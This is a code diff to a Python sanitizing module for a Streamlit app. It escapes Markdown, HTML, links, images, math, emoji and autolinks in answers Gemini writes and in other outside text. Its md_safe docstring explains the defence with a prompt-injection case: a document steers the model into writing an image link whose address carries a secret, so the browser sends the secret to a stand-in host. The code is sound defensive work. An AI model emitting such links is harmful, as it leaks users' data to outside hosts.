@@ -84,38 +84,68 @@ def highlight_html(text: str, terms: Iterable[str], tag: str = "mark") -> str:
 
 
 def md_safe(text: str) -> str:
-    """Markdown whose formatting (bold, lists, tables) still works but which shows HTML, LaTeX, emoji codes
-    and Streamlit's colour directives as text. For the answer, which Gemini writes in Markdown.
+    """Markdown whose formatting (bold, lists, tables) still works but which renders nothing more than text:
+    no HTML, link, image, math, icon, emoji or colour directive. For the answer, which Gemini writes in Markdown
+    and which quotes the documents.
 
-    `&` and `<` become entities (tags print literally), `$` is escaped (Streamlit renders $..$ as math, and
-    financial text is full of dollars) and every `:` too (`:smile:` and `:red[...]` stay as typed). Square
-    brackets are escaped as well, so no link or image survives: a document that talks the model into writing
+    Backslashes are escaped first, so a document's own escapes stay text (`\\[guide\\](http://x)` was a live
+    link, `\\$x\\$` a formula). `&` and `<` become entities (tags print literally), `$` is escaped (Streamlit
+    renders $..$ as math, and financial text is full of dollars), every `:` too (`:red[...]` stays as typed) and
+    square brackets, so no link or image survives: a document that talks the model into writing
     `![x](http://host/?q=secret)` would otherwise make the browser fetch that address (citations such as `[1]`
-    still read the same). With `:` escaped a bare `http://` no longer autolinks either.
+    still read the same). What Streamlit rewrites after the escapes are undone is split by `_inert`. A table's
+    delimiter row (`|---|:--:|`) is left as it is: an escaped alignment colon would end the table.
     """
-    text = text.replace("&", "&amp;").replace("<", "&lt;")
-    text = text.replace("[", "\\[").replace("]", "\\]")
-    return text.replace("$", "\\$").replace(":", "\\:")
+    return "\n".join(line if _TABLE_RULE.fullmatch(line) else _safe_line(line) for line in text.split("\n"))
+
+
+def _safe_line(line: str) -> str:
+    line = _inert(line).replace("\\", "\\\\")
+    line = line.replace("&", "&amp;").replace("<", "&lt;")
+    line = line.replace("[", "\\[").replace("]", "\\]")
+    return line.replace("$", "\\$").replace(":", "\\:")
 
 
 _MD_INLINE = re.compile(r"([\\`*_\[\]<>$:&|~])")  # marks that format wherever they stand
-_MD_LINE_START = re.compile(r"^([ \t]*)(#|[-+=](?=\s|$)|\d+(?=[.)]))", re.MULTILINE)  # heading, list, setext
+_MD_LINE_START = re.compile(r"^([ \t]*)(#|[-+=]|\d+(?=[.)]))", re.MULTILINE)  # heading, list, rule, setext
 
 
 def md_text(text: str) -> str:
     """Markdown that shows `text` literally: the marks that would format it are backslash-escaped.
 
     For file names, questions, reasons and other plain text from outside (a file called `*draft*.pdf` stays
-    that, not italics; `<b>` prints as typed; `$5` is no formula; `:red[x]` no colour). Dots, dashes and
-    brackets are left alone except where Markdown would read them (a list or heading at a line start).
+    that, not italics; `<b>` prints as typed; `$5` is no formula; `:red[x]` no colour; an address no link).
+    Dots, dashes and brackets are left alone except where Markdown would read them (a list or heading at a
+    line start).
     """
-    return _MD_LINE_START.sub(_escape_line_start, _MD_INLINE.sub(r"\\\1", text))
+    return _MD_LINE_START.sub(_escape_line_start, _MD_INLINE.sub(r"\\\1", _inert(text)))
 
 
 def _escape_line_start(match: re.Match) -> str:
     indent, mark = match.group(1), match.group(2)
     # "12." -> "12\." (the dot after the number makes the list); "-", "+", "#", "=" get the backslash before them
     return f"{indent}{mark}\\" if mark[0].isdigit() else f"{indent}\\{mark}"
+
+
+JOINER = "\u2060"  # WORD JOINER: zero width and invisible, yet it is a character that the patterns below do not allow
+_NEEDS_JOINER = re.compile(
+    r"(?<=:)(?=//)"  # https://host: Streamlit links addresses in the text after escapes are undone
+    r"|(?<=www)(?=\.)"  # www.host: linked the same way
+    r"|(?<=@)(?=[-\w])"  # name@host.org: a mailto: link
+    r"|(?<=:)(?=[\w+-]+:|material/)",  # :smile:, :streamlit:, :material/icon: and :material_icon: draw pictures
+    re.IGNORECASE)
+_TYPOGRAPHY = re.compile(r"(?<!\S)(?:<->|->|<-|--|>=|<=|~=)(?!\S)")  # become arrows, a dash and relations
+_TABLE_RULE = re.compile(r"[\s|:-]*")  # a table's delimiter row (| -- | :-: |) or a rule: left as it is
+
+
+def _inert(text: str) -> str:
+    """Text with a word joiner inside each sequence that Streamlit turns into more than text *after* Markdown
+    escapes are resolved, where no backslash can reach: GFM's address autolinks, its picture shortcodes and
+    its typographic arrows are rewrites of the parsed text. The joiner shows nothing, so the text reads (and
+    copies, apart from the invisible joiner) as it is. Table delimiter rows and rules are left alone."""
+    return "\n".join(line if _TABLE_RULE.fullmatch(line) else
+                     _TYPOGRAPHY.sub(lambda m: JOINER.join(m.group(0)), _NEEDS_JOINER.sub(JOINER, line))
+                     for line in text.split("\n"))
 
 
 def format_seconds(seconds: float) -> str:
